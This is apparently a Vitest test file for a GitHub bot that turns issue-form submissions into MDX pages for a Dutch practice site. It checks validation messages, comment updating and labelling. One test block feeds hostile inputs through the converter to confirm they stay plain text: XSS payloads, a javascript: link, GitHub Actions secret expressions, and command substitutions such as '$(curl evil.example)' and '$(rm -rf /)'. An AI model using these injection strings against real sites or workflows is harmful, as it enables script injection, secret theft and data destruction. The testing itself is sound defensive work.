import {readFileSync} from 'node:fs';
import {join} from 'node:path';
import {renderToStaticMarkup} from 'react-dom/server';
import * as runtime from 'react/jsx-runtime';
import {evaluate} from '@mdx-js/mdx';
import {visit} from 'unist-util-visit';
import {describe, expect, it} from 'vitest';
import {parseMdx} from '../../src/content/parse-mdx';
import {lintMdx} from '../../src/content/lint';
import {runCheck, labels} from '../../scripts/praktijk-check';
import {commentMarker, codeSpan} from '../../scripts/praktijk-bot/comment';
import {issueToPage, validateAsPage, type IssueEvent} from '../../scripts/praktijk-bot/convert';
import type {GitHubClient, IssueComment} from '../../scripts/praktijk-bot/github';

const siteDir = process.cwd();
const fixture = (name: string) => JSON.parse(readFileSync(join(siteDir, 'tests/fixtures/praktijk-issues', `${name}.json`), 'utf8')) as IssueEvent;

/** An issue's comments and labels in memory, with a log of the calls. */
function fakeGitHub(): GitHubClient & {comments: IssueComment[]; labels: Set<string>; calls: string[]} {
  const comments: IssueComment[] = [];
  const issueLabels = new Set<string>(['praktijk-aanmelding']);
  const calls: string[] = [];
  let nextId = 100;
  return {
    comments,
    labels: issueLabels,
    calls,
    async listComments() {
      calls.push('list');
      return comments.map((comment) => ({...comment}));
    },
    async createComment(_issue, body) {
      calls.push('create');
      comments.push({id: nextId++, body, user: {login: 'github-actions[bot]', type: 'Bot'}});
    },
    async updateComment(id, body) {
      calls.push(`update ${id}`);
      const comment = comments.find((candidate) => candidate.id === id);
      if (!comment) throw new Error(`no comment ${id}`);
      comments[comments.indexOf(comment)] = {...comment, body};
    },
    async addLabels(_issue, added) {
      for (const label of added) issueLabels.add(label);
    },
    async removeLabel(_issue, label) {
      issueLabels.delete(label);
    },
  };
}

/** Renders a page body as the site would (MDX compiled to React), frontmatter left out. */
async function renderBody(mdx: string): Promise<string> {
  const body = mdx.replace(/^---\n[\s\S]*?\n---\n/, '');
  const {default: Content} = await evaluate(body, {...runtime, baseUrl: import.meta.url});
  return renderToStaticMarkup(Content({}));
}

describe('praktijk bot: a complete submission', () => {
  it('answers "klaar voor een redacteur" with the page folded open, and labels the issue', async () => {
    const github = fakeGitHub();
    const {ready, body} = await runCheck({event: fixture('complete.opened'), github, siteDir});
    expect(ready).toBe(true);
    expect(github.comments).toHaveLength(1);
    expect(body.startsWith(commentMarker)).toBe(true);
    expect(body).toContain('Klaar voor een redacteur');
    expect(body).toMatch(/<details>\n<summary>Voorbeeld van de pagina \(MDX\)<\/summary>\n\n```mdx\n---\ntitle: Samen Spelen in de Speeltuin\n/);
    expect([...github.labels]).toEqual(['praktijk-aanmelding', labels.ready]);
  });

  it('makes a page that validates like npm run validate and compiles as MDX', async () => {
    const outcome = issueToPage(fixture('complete.opened'), siteDir);
    expect(outcome.ok).toBe(true);
    if (!outcome.ok) return;
    expect(outcome.slug).toBe('samen-spelen-in-de-speeltuin-teststad');
    expect(validateAsPage(siteDir, outcome.slug, outcome.mdx, 'x')).toEqual([]);
    const html = await renderBody(outcome.mdx);
    expect(html).toContain('<a href="/werkende-factoren/laagdrempelig-contact">laagdrempelig contact</a>');
    expect(html).toContain('<li>Elke woensdag van 9.30 tot 11.00 uur.</li>');
  });
});

describe('praktijk bot: mistakes', () => {
  it('names all three mistakes in one comment, each under its form label, and marks the issue incomplete', async () => {
    const github = fakeGitHub();
    const {ready, body} = await runCheck({event: fixture('three-mistakes.opened'), github, siteDir});
    expect(ready).toBe(false);
    expect(github.comments).toHaveLength(1);
    const problems = body.split('\n').filter((line) => line.startsWith('- **'));
    expect(problems).toEqual([
      '- **Samenvatting**: Schrijf minstens 40 tekens (nu 8). Je schreef: `Te kort.`.',
      '- **Websites** (regel 1): Vul een volledig webadres in dat begint met https://. Je schreef: `Samen Spelen: www.example.nl`.',
      '- **Bron: jaar**: Vul een jaartal in van vier cijfers, tussen 1950 en 2100. Je schreef: `tweeduizend`.',
    ]);
    expect(body).toContain('3 dingen');
    expect([...github.labels]).toEqual(['praktijk-aanmelding', labels.incomplete]);
  });

  it('updates the same comment when the issue is edited, and switches the label', async () => {
    const github = fakeGitHub();
    await runCheck({event: fixture('three-mistakes.opened'), github, siteDir});
    const [first] = github.comments;
    const {ready} = await runCheck({event: fixture('three-mistakes.edited'), github, siteDir});
    expect(ready).toBe(true);
    expect(github.comments).toHaveLength(1);
    expect(github.comments[0]?.id).toBe(first?.id);
    expect(github.comments[0]?.body).toContain('Klaar voor een redacteur');
    expect(github.calls.filter((call) => call === 'create')).toHaveLength(1);
    expect(github.calls).toContain(`update ${first?.id}`);
    expect([...github.labels]).toEqual(['praktijk-aanmelding', labels.ready]);
  });

  it('does not take over a comment of a person that carries the marker', async () => {
    const github = fakeGitHub();
    github.comments.push({id: 1, body: `${commentMarker}\nnep`, user: {login: 'iemand', type: 'User'}});
    await runCheck({event: fixture('complete.opened'), github, siteDir});
    expect(github.comments.map((comment) => comment.id)).toEqual([1, 100]);
    expect(github.comments[0]?.body).toBe(`${commentMarker}\nnep`);
  });

  it('asks to remove a heading that is also a form label instead of guessing which field is meant', () => {
    const outcome = issueToPage(fixture('duplicate-heading.opened'), siteDir);
    expect(outcome.ok || outcome.problems.map((p) => p.field)).toEqual(['body.aanpak']);
  });
});

describe('praktijk bot: untrusted text stays text', () => {
  const event = fixture('injection.opened');
  const outcome = issueToPage(event, siteDir);

  it('refuses the javascript: link at its field', () => {
    expect(outcome.ok).toBe(false);
    if (outcome.ok) return;
    expect(outcome.problems.map((p) => [p.field, p.value])).toContainEqual(['body.inHetKort', 'javascript:alert(1)']);
  });

  it('refuses markup in the title and the summary, which are shown as plain text', () => {
    if (outcome.ok) return;
    expect(outcome.problems.filter((p) => p.field === 'title' || p.field === 'summary').map((p) => p.field)).toEqual(['title', 'summary']);
  });

  // Without the link and without markup in title and summary, the hostile body text must stay text.
  const plainTitle = '$(curl evil.example) @everyone';
  const withoutLink = {
    ...event,
    issue: {
      ...event.issue,
      body: event.issue.body!
        .replace('[klik](javascript:alert(1))', 'klik')
        .replace('<script>alert(1)</script> ${{ github.token }} ', '')
        .replace('{process.exit()} en <img src=x onerror=alert(1)>', 'process.exit() en img src=x onerror=alert(1)')
        .replace('${{ secrets.X }}', 'secrets.X'),
    },
  };
  const page = issueToPage(withoutLink, siteDir);

  it('writes a page with no JSX, expression or ESM nodes from the text, which passes the content lint and validation', () => {
    expect(page.ok).toBe(true);
    if (!page.ok) return;
    const {tree} = parseMdx(page.mdx);
    const codeNodes: string[] = [];
    visit(tree, (node) => {
      if (/^mdx/.test(node.type)) codeNodes.push(node.type);
    });
    expect(codeNodes).toEqual([]);
    expect(lintMdx(tree, 'x')).toEqual([]);
    expect(validateAsPage(siteDir, page.slug, page.mdx, 'x')).toEqual([]);
    // The headings of the page are exactly the seven sections: typed headings were demoted.
    const headings = tree.children.filter((node) => node.type === 'heading' && node.depth <= 2);
    expect(headings).toHaveLength(7);
  });

  it('shows the text as typed on the rendered page', async () => {
    if (!page.ok) return;
    expect(page.frontmatter.title).toBe(plainTitle);
    const html = await renderBody(page.mdx);
    const text = html.replace(/<[^>]+>/g, '').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&#x27;/g, "'").replace(/&amp;/g, '&');
    for (const typed of [
      'import fs from "node:fs"',
      'export const x = 1',
      '{1 + 1} en {/* c */} en <Foo bar={x} /> en </div>',
      '$(rm -rf /) en ${{ github.event.issue.title }} en @everyone en <!-- verborgen -->',
      'title: ook niet',
      'Mijn eigen kop',
      'Meer weten',
    ]) {
      expect(text).toContain(typed);
    }
    expect(html).not.toMatch(/<(script|img|Foo|div)\b/i);
  });

  it('puts values in code spans with @ defused in the comment', () => {
    expect(codeSpan('@everyone `x` ${{ a }}')).toBe('``@\u200beveryone `x` ${{ a }}``');
    expect(codeSpan('`begin')).toBe('`` `begin ``');
  });
});

describe('praktijk PR step', () => {
  it('writes the approved page once and refuses to overwrite it', async () => {
    const {mkdtempSync, cpSync, mkdirSync, rmSync, existsSync} = await import('node:fs');
    const {tmpdir} = await import('node:os');
    const {writeApprovedPage} = await import('../../scripts/praktijk-pr');
    const site = mkdtempSync(join(tmpdir(), 'praktijk-pr-'));
    try {
      cpSync(join(siteDir, 'docs'), join(site, 'docs'), {recursive: true});
      mkdirSync(join(site, '.github'), {recursive: true});
      cpSync(join(siteDir, '.github/ISSUE_TEMPLATE'), join(site, '.github/ISSUE_TEMPLATE'), {recursive: true});
      const path = writeApprovedPage(fixture('complete.opened'), site);
      expect(path).toBe('docs/praktijken/samen-spelen-in-de-speeltuin-teststad.mdx');
      expect(existsSync(join(site, path))).toBe(true);
      expect(() => writeApprovedPage(fixture('complete.opened'), site)).toThrow(/er staat al een praktijk met deze naam/);
      expect(() => writeApprovedPage(fixture('three-mistakes.opened'), site)).toThrow(/summary/);
    } finally {
      rmSync(site, {recursive: true, force: true});
    }
  }, 60_000);
});
